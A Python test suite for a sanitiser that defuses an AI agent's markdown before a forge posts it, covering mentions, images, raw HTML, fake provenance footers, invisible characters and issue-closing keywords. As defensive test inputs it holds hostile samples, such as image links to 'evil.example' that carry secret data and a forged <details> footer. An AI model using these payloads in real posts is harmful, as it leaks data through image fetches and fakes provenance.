"""Tests for fleet.markdown.defuse: an agent's text, posted on a forge, pings no one, shows no
image (whose address the forge would fetch), names and closes no issue but the run's own,
holds no HTML that could fake, hide or break the provenance footer, keeps its own
markdown and code as written, and stays within the forge's size; one value on a line of
ours is one plain, bounded line."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fleet.markdown.defuse import POST_CAP, defuse, escape_cell, fenced
from fleet.markdown.live_markdown import safe

_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_LIVE = re.compile(r"(?<![A-Za-z0-9_`])@[A-Za-z0-9_]")
_IN_URL = re.compile(r"^\(?(?:https?://|www\.)[\w-]+\.[\w.-]+/")


def live_mentions(markdown: str) -> list[str]:
    """The ``@name`` a forge would notify in ``markdown``: in its text, outside code, not
    in a web address's path (the forge links the address)."""
    found: list[str] = []
    for token in _PARSER.parse(markdown):
        texts = [""]  # the text of each run of text children: what the forge reads as one
        for child in token.children or ():
            if child.type == "text":
                texts[-1] += child.content
            else:
                texts.append("")
        for text in texts:
            for live in _LIVE.finditer(text):
                before = text[: live.start()].split()
                if not (
                    before and _IN_URL.match(before[-1]) and not text[live.start() - 1].isspace()
                ):
                    found.append(live.group(0))
    return found


def html_in(markdown: str) -> list[str]:
    """The raw HTML a forge would pass on from ``markdown``."""
    out = []
    for token in _PARSER.parse(markdown):
        if token.type == "html_block":
            out.append(token.content)
        out += [c.content for c in token.children or () if c.type == "html_inline"]
    return out


def test_mentions_are_put_in_code_and_notify_no_one() -> None:
    """``@login`` and ``@org/team`` become code spans; e-mail addresses and web addresses
    are left as written."""
    out = defuse("Thanks @alice and @acme/reviewers! Mail me@example.com; https://x.org/@bob")
    assert out == (
        "Thanks `@alice` and `@acme/reviewers`! Mail me@example.com; https://x.org/`@bob`"
    )
    assert live_mentions(out) == []


@pytest.mark.parametrize(
    "text",
    [
        "\\@escaped and &#64;entity and &commat;named",
        "# @heading\n- @item\n> @quote\n\n| a |\n|---|\n| @cell |",
        "@_gitea.user and @dotted.name. end",
        "**@bold** _@em_ [@link](https://e.com)",
    ],
)
def test_no_spelling_of_a_mention_stays_live(text: str) -> None:
    """Escaped, encoded, in headings, lists, quotes, tables or emphasis: no mention is
    left that the forge would notify."""
    assert live_mentions(defuse(text)) == []


def test_a_fake_footer_is_shown_as_text_not_as_a_block() -> None:
    """``<details>`` in an agent's text is escaped: no collapsible block passes for ours."""
    out = defuse("Done.\n\n<details><summary>Fleetwarden · agent x</summary>\n\nfake\n</details>")
    assert "<details>" not in out and "&lt;details>" in out
    assert html_in(out) == []


@pytest.mark.parametrize(
    "text",
    [
        "end of mine </details> and now yours",
        "hide the rest <!-- everything after this",
        "<table><tr><td>open",
        "```\nan open code block",
        "~~~\nan open tilde block",
        "<div>\n\n*unclosed",
    ],
)
def test_nothing_left_open_swallows_what_follows(text: str) -> None:
    """Whatever the agent leaves open, a ``<details>`` posted after its text starts a
    block of its own, and no HTML of the agent's passes."""
    out = defuse(text)
    assert safe(out)
    tokens = _PARSER.parse(f"{out}\n\n<details>\nours\n</details>")
    assert tokens[-1].type == "html_block" and tokens[-1].content.startswith("<details>")
    assert html_in(out) == []


def test_code_is_kept_as_written() -> None:
    """In code spans and code blocks HTML and mentions are plain: they stay as written."""
    text = "Use `Vec<String>` and `@dave`:\n\n```html\n<details>@carol</details>\n```\n\nOk."
    assert defuse(text) == text


def test_markdown_of_the_agent_is_kept() -> None:
    """Headings, lists, links, emphasis and quotes pass unchanged."""
    text = "## Changes\n\n- **fixed** the [parser](https://e.com/p)\n- _faster_\n\n> quoted"
    assert defuse(text) == text


def test_backticks_in_a_link_title_cannot_smuggle_html() -> None:
    """A backtick inside a link's title (where it opens no code) cannot make HTML pass
    for code: the text is posted as one code block instead."""
    out = defuse('[a](u "`") <!-- hidden --> `x`')
    assert html_in(out) == []
    assert out.startswith("```") and out.endswith("```")


def test_invisible_characters_are_taken_out() -> None:
    """Zero-width, bidi and tag characters are not posted: a mention split by one is
    still found."""
    out = defuse("ping @al\u200bice \u202eevil\U000e0041")
    assert out == "ping `@alice` evil"


def test_references_to_the_runs_own_issue_and_pull_request_stay() -> None:
    """``#123`` of the run's own issue links it, and closes it on a merge, as meant."""
    text = "Fixes #123, see #7 and GH-7."
    assert defuse(text, own=(123, 7)) == text


@pytest.mark.parametrize("unit", ["&", "<", "`", "@a ", "x"])
def test_a_long_text_fits_the_post_whatever_escaping_adds(unit: str) -> None:
    """Escaping lengthens text (``&`` → ``&amp;``): the result still fits the cap."""
    out = defuse(unit * 80_000)
    assert len(out) <= POST_CAP
    assert safe(out)


def test_fenced_cannot_be_closed_from_inside() -> None:
    """The fence is longer than any run of backticks in the text."""
    block = fenced("a ```` b\n`````\nc")
    assert block.startswith("``````\n") and block.endswith("\n``````")


_PIECES = st.sampled_from(
    [*"ab @<>/&#;`*_[]()!-\n\"'|~\\", "<!--", "```", "    ", "@al", "<details>", "&#64;"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_whatever_an_agent_writes_comes_out_safe(text: str) -> None:
    """For any text: no raw HTML, no live mention, nothing left open, within the cap."""
    out = defuse(text)
    assert safe(out) and html_in(out) == [] and live_mentions(out) == []
    assert len(out) <= POST_CAP


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("claude-sonnet-4", "claude-sonnet-4"),
        ("a|b`c`*d*_e_[f](g)<h>&i$j$~k~", r"a\|b\`c\`\*d\*\_e\_\[f\](g)&lt;h&gt;&amp;i\$j\$\~k\~"),
        ("line one\nline two", "line one ⏎ line two"),
        ("ask @root please", "ask `@root` please"),
        ("</details><details>", "&lt;/details&gt;&lt;details&gt;"),
        ("zero\u200bwidth\u202e", "zerowidth"),
        (None, ""),
    ],
)
def test_escape_cell_makes_one_plain_line(value: str | None, shown: str) -> None:
    """A value is one line: markup escaped, HTML as entities, mentions in code."""
    assert escape_cell(value) == shown


@settings(max_examples=200, deadline=None)
@given(st.text(), st.integers(min_value=10, max_value=300))
def test_escape_cell_is_bounded_whatever_the_value(value: str, limit: int) -> None:
    """However much escaping adds, a cell is at most ``limit`` characters, one line."""
    out = escape_cell(value, limit)
    assert len(out) <= limit and "\n" not in out and "<" not in out


def images_in(markdown: str) -> list[str]:
    """The addresses a forge would fetch to show ``markdown``'s images."""
    found: list[str] = []
    pending = _PARSER.parse(markdown)
    while pending:
        token = pending.pop()
        if token.type == "image":
            found.append(str(token.attrGet("src")))
        pending.extend(token.children or ())
    return found


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?d=secret)", "x (image: `https://evil.example/?d=secret`)"),
        (
            'see ![](<https://evil.example/a b.png> "t")',
            "see image: `https://evil.example/a b.png`",
        ),
        (
            "![x][r] and ![r]\n\n[r]: https://evil.example/a.png",
            "x (image: `https://evil.example/a.png`) and r (image: `https://evil.example/a.png`)"
            "\n\n[r]: https://evil.example/a.png",
        ),
        (
            "[![build](https://evil.example/b.svg)](https://ci.example/job)",
            "[build (image: `https://evil.example/b.svg`)](https://ci.example/job)",
        ),
        (
            "| ![i](https://evil.example/i) |\n|---|",
            "| i (image: `https://evil.example/i`) |\n|---|",
        ),
    ],
)
def test_an_image_is_shown_as_its_address_in_code(text: str, shown: str) -> None:
    """Inline, by reference or inside a link: an image becomes its text and its address
    as code, which no forge fetches; a link around it stays a link."""
    out = defuse(text)
    assert out == shown
    assert images_in(out) == []


@pytest.mark.parametrize(
    "text",
    [
        "![a `b` c](https://evil.example/x)",
        "![a](https://evil.example/(x)) ![[b]](https://evil.example/y)",
        "\\![escaped](https://e.example/x) and \\\\![not](https://evil.example/z)",
    ],
)
def test_an_image_the_text_hides_is_not_shown_either(text: str) -> None:
    """An image written so no simple reading finds it is escaped into a link at most."""
    out = defuse(text)
    assert images_in(out) == [] and safe(out)


def test_raw_html_images_are_text() -> None:
    """``<img>`` and ``<picture>`` are escaped: shown as written, fetched by no one."""
    out = defuse('<img src="https://evil.example/?d=x"> <picture><source srcset="https://e/a">')
    assert out.startswith("&lt;img src=")
    assert images_in(out) == [] and html_in(out) == []


def test_a_diagram_block_is_shown_as_code() -> None:
    """A ``mermaid`` block (which the forges draw, images and all) is shown as code."""
    out = defuse("```mermaid\ngraph TD; A-->B\n```\n\n~~~ GeoJSON\n{}\n~~~")
    assert out == "```text mermaid\ngraph TD; A-->B\n```\n\n~~~text  GeoJSON\n{}\n~~~"


_IMAGE_PIECES = st.sampled_from(
    [*"ab !<>[]()`\"'\\\n:", "![", "](", "[r]: ", "https://e.io/i.png", "<img src=x>", "    "]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.lists(_IMAGE_PIECES, max_size=40).map("".join)))
def test_no_image_is_ever_shown(text: str) -> None:
    """For any text, what is posted renders no image."""
    out = defuse(text)
    assert images_in(out) == [] and html_in(out) == []


@pytest.mark.parametrize(
    "keyword",
    [
        *("close", "closes", "closed", "fix", "fixes", "fixed"),
        *("resolve", "resolves", "resolved", "reopen", "reopens", "reopened"),
        *("Fixes:", "CLOSES"),
    ],
)
def test_a_closing_keyword_acts_on_no_other_issue(keyword: str) -> None:
    """GitHub's closing keywords and Gitea's (with its ``reopen``): before another issue
    the issue goes in code, the keyword before it (GitLab reads a closing statement in
    code too, and a keyword before code closes nothing); before the run's own issue both
    stay."""
    assert defuse(f"{keyword} #9", own=(1,)) == f"{keyword} `#9`"
    assert defuse(f"{keyword} #1", own=(1,)) == f"{keyword} #1"


def test_a_merge_closes_only_the_runs_own_issue() -> None:
    """Closing another issue, another repository's or one by its address is defused."""
    out = defuse(
        "Closes #1, fixes acme/other#2, resolves https://github.com/acme/app/issues/3", own=(1,)
    )
    assert out == (
        "Closes #1, fixes `acme/other#2`, resolves `https://github.com/acme/app/issues/3`"
    )
    assert references_in(out, own=(1,)) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see #5, GH-6, !8 and \\#9; !7.", "see `#5`, `GH-6`, `!8` and `#9`; !7."),
        ("acme/app#7 and acme/app!7", "`acme/app#7` and `acme/app!7`"),
        (
            "(https://github.com/a/b/pull/9/files). https://git.example/sub/a/b/pulls/4",
            "(`https://github.com/a/b/pull/9/files`). `https://git.example/sub/a/b/pulls/4`",
        ),
        (
            "[the bug](https://github.com/a/b/issues/3) [x](/a/b/pulls/4 'y')",
            "the bug (`https://github.com/a/b/issues/3`) x (`/a/b/pulls/4`)",
        ),
        (
            "see [bug][1]\n\n[1]: https://github.com/a/b/issues/3",
            "see bug (`https://github.com/a/b/issues/3`)\n\n[1]: `https://github.com/a/b/issues/3`",
        ),
        ("**Fixes** _#6_", "**Fixes** _`#6`_"),
    ],
)
def test_references_to_other_issues_are_put_in_code(text: str, shown: str) -> None:
    """Other issues by number, by another repository, by address or through a link: in
    code, they link nothing and tell no issue it was mentioned. Even ``acme/app#7`` of
    the run's own number: it may be another repository's."""
    out = defuse(text, own=(7,))
    assert out == shown
    assert references_in(out, own=(7,)) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("`#5` and\n\n```\nsee https://github.com/a/b/issues/7\n```", None),
        ("https://e.example/page#5 and www.e.example/x#6, abc", None),
        ("[docs](https://e.example/guide#5)", None),
        (
            "`fixes acme/x#6` and\n\n```\ncloses https://github.com/a/b/issues/7\n```",
            "`fixes\u00a0acme/x#6` and\n\n```\ncloses\u00a0https://github.com/a/b/issues/7\n```",
        ),
        ("abc#7, not a fragment", "`abc#7`, not a fragment"),
    ],
)
def test_what_names_no_issue_is_kept_as_written(text: str, shown: str | None) -> None:
    """References in code are inert, and a web address's ``#fragment`` is no reference. A
    closing statement in code still closes on GitLab, which reads them in the text as
    written: the space after its keyword becomes a no-break space, which reads the same;
    ``abc#7`` is GitLab's issue 7 of project ``abc``."""
    assert defuse(text) == (text if shown is None else shown)


_GITEA_NUMERIC = re.compile(
    r"(?:(?<=[\s(\['\"])|\A)([#!][0-9]+)(?=\s|\Z|[)\]'\"]|[:;,.?!](?:\s|\Z))"
)
_GITEA_CROSS = re.compile(
    r"(?:(?<=[\s(\[])|\A)([\w.-]+/[\w.-]+[#!][0-9]+)(?=\s|\Z|[)\]]|[:;,.?!](?:\s|\Z))"
)
_GITHUB_SHORT = re.compile(r"(?<![A-Za-z0-9])GH-([0-9]+)\b", re.IGNORECASE)
_WEB = re.compile(r"(?:https?://|(?<![^\s*_~(])www\.)[^\s<]*")  # as the forges link them
_ISSUE = re.compile(r"/(?:issues|pulls?)/[0-9]")


def references_in(markdown: str, own: tuple[int, ...]) -> list[str]:
    """The issues a forge would link from ``markdown``'s text outside code (Gitea's
    patterns, from its modules/references, and GitHub's ``GH-N``), but ``own``, and the
    web addresses and links' addresses of an issue."""
    found: list[str] = []
    for token in _PARSER.parse(markdown):
        runs = [""]
        for child in token.children or ():
            if child.type == "text":
                runs[-1] += child.content
                continue
            runs.append("")
            if child.type == "link_open" and _ISSUE.search(str(child.attrGet("href"))):
                found.append(str(child.attrGet("href")))
        text = "\n".join(runs)
        found += [url for url in _WEB.findall(text) if _ISSUE.search(url)]
        text = _WEB.sub(" ", text)  # the forges link it: its fragment is no reference
        found += [ref for ref in _GITEA_NUMERIC.findall(text) if int(ref[1:]) not in own]
        found += _GITEA_CROSS.findall(text)
        found += [ref for ref in _GITHUB_SHORT.findall(text) if int(ref) not in own]
    return found


_REFERENCE_PIECES = st.sampled_from(
    [
        *"#!1 2\n.,:'\"()[]`\\*_x",
        *("GH-", "a/b", "fixes ", "Closes: ", "reopened ", "[t](", "](", "[r]: ", "[r]"),
        *("https://h.io/o/r/issues/", "https://h.io/o/r/pull/", "/pulls/", "www.h.io/"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(_REFERENCE_PIECES, max_size=40).map("".join),
    st.sampled_from([(), (1,), (1, 2)]),
)
def test_no_other_issue_is_ever_named(text: str, own: tuple[int, ...]) -> None:
    """For any text, what is posted names no issue but ``own``: a forge finds no other
    reference in it, and no link to an issue."""
    out = defuse(text, own=own)
    assert references_in(out, own) == []
    assert safe(out, own)
